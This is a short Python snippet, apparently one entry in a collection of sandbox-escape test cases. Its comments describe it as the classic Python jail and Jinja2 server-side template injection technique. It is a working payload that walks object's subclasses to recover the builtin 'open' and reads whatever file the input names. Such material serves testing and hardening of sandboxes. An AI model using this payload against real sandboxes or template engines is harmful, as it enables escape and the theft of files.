# Tries: the builtins of another module, by a walk over the subclasses of object to one whose methods were born there.
# Origin: the classic of every Python jail; Jinja2 server-side template injections.

found = []
for kind in ().__class__.__base__.__subclasses__():
    space = getattr(kind.__init__, "__globals__", {})
    if "__builtins__" in space and "open" in space["__builtins__"]:
        found.append(space["__builtins__"]["open"](input["file"]).read())
        break
found
